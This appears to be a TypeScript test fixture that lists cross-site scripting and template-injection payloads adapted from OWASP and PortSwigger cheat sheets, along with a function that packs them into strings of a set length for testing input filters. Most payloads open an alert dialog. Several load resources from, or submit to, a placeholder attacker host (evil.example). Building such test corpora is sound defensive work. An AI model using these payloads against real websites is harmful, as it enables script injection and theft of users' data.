/**
 * Ways to have a text run as a program in a browser: of OWASP's filter evasion and PortSwigger's cheat sheets one of each
 * kind. Every one would open a dialog, or fetch from a host that is nobody's; as text each is just letters.
 */
export const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
  "]]><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"https://evil.example/p.gif\">",
  "<img/src='x'onerror=alert(1)>",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example/x.swf>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/y.css';</style>",
  "<style>*{background:url(//evil.example/z)}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example/>",
  "<form action=//evil.example/><button>x</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<x onpointerenter=alert(1) style=position:fixed;inset:0>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "\"><script>alert(1)</script>",
  "'><img src=x onerror=alert(1)>",
  "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
  "' onfocus=alert(1) autofocus x='",
  "`onmouseover=alert(1)`",
  "javascript:alert(1)//",
  "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "[x](javascript:alert(1))",
  "![x](https://evil.example/m.gif)",
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
  "${alert(1)}",
  "{% raw %}{{ x }}",
  "{x, select, other {y}}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "＜script＞alert(1)＜/script＞",
  "<ſcript>alert(1)</ſcript>",
  "__proto__",
  "';alert(1);//",
  "<plaintext>",
] as const;

/** As many of them together as a text of that length holds; all of them, in order. */
export function packed(length: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= length) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
